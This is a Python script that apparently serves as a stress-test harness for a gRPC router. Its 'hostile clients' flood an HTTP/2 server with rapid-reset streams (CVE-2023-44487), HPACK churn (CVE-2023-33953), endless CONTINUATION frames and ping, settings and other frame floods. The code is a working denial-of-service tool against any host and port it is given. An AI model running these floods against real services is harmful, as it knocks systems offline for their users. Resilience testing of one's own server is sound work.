"""Hostile clients. Each runs in a process of its own:

    attack.py KIND HOST PORT SECONDS [--source ADDRESS]

It goes on for so long, connecting again whenever the router has closed its connection, and prints
one line: how many connections it made, how many of them were closed or refused by the router, and
how many bytes it got rid of.
"""

import argparse
import itertools
import select
import socket
import sys
import time

import http2

PUBLISH = "/router.v1.PublisherService/Publish"
STREAM = "/router.v1.PublisherService/PublishStream"
UNKNOWN = "/no.such.Service/Method"
# One piece is this many frames or so: prepared once, so that the attacker takes little of the CPU.
PIECE = 2000


def resets(path):
    """Calls that are begun and cancelled at once (CVE-2023-44487)."""
    for first in itertools.count(1, 2 * PIECE):
        yield b"".join(http2.call(path, stream) + http2.reset(stream)
                       for stream in range(first, first + 2 * PIECE, 2))


def pings():
    piece = b"".join(http2.ping(n) for n in range(PIECE))
    while True:
        yield piece


def settings_changes():
    piece = http2.settings((3, 100)) * PIECE
    while True:
        yield piece


def continuations():
    """A header block that never ends."""
    yield http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PUBLISH))
    field = http2.literal("x-" + "a" * 30, "b" * 60)
    piece = http2.frame(http2.CONTINUATION, 0, 1, field * 160)
    while True:
        yield piece


def empty_continuations():
    yield http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PUBLISH))
    piece = http2.frame(http2.CONTINUATION, 0, 1) * PIECE
    while True:
        yield piece


def hpack():
    """Header blocks of many tiny fields, each of which goes into the table and puts others out of
    it (CVE-2023-33953)."""
    block = http2.call_headers(PUBLISH) + b"".join(
        http2.literal("a%d" % (n % 100), "", index=True) for n in range(2500))
    for first in itertools.count(1, 40):
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                                   block) for stream in range(first, first + 40, 2))


def headers_too_large():
    """Calls whose metadata is far over the limit."""
    block = http2.call_headers(PUBLISH) + http2.literal("x-a", "b" * 200) * 75
    for first in itertools.count(1, 40):
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                                   block) for stream in range(first, first + 40, 2))


def window_updates():
    piece = http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * PIECE
    while True:
        yield piece


def priorities():
    piece = b"".join(http2.frame(http2.PRIORITY, 0, stream, b"\0\0\0\0\x10")
                     for stream in range(1, 2 * PIECE, 2))
    while True:
        yield piece


KINDS = {
    "reset_unary": lambda: resets(PUBLISH),
    "reset_stream": lambda: resets(STREAM),
    "reset_unknown": lambda: resets(UNKNOWN),
    "ping": pings,
    "settings": settings_changes,
    "continuation": continuations,
    "empty_continuation": empty_continuations,
    "hpack": hpack,
    "headers_too_large": headers_too_large,
    "window_update": window_updates,
    "priority": priorities,
}


class Attack:
    def __init__(self, pieces, address, source, end_time):
        self.pieces = pieces
        self.address = address
        self.source = source
        self.end_time = end_time
        self.connections = 0
        self.closed = 0
        self.bytes = 0

    def run(self):
        while time.monotonic() < self.end_time:
            try:
                with socket.create_connection(self.address, 1, self.source) as connection:
                    self.connections += 1
                    self._flood(connection)
            except OSError:
                self.closed += 1

    def _flood(self, connection):
        connection.setblocking(False)
        rest = memoryview(http2.hello())
        pieces = self.pieces()
        while time.monotonic() < self.end_time:
            readable, writable, _ = select.select([connection], [connection], [], 0.1)
            # What the router says is thrown away.
            if readable and not connection.recv(1 << 20):
                self.closed += 1
                return
            if writable:
                if not rest:
                    rest = memoryview(next(pieces))
                sent = connection.send(rest)
                self.bytes += sent
                rest = rest[sent:]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--source", default="")
    options = parser.parse_args()
    attack = Attack(KINDS[options.kind], (options.host, options.port),
                    (options.source, 0) if options.source else None,
                    time.monotonic() + options.seconds)
    attack.run()
    print(attack.connections, attack.closed, attack.bytes)


if __name__ == "__main__":
    sys.exit(main())
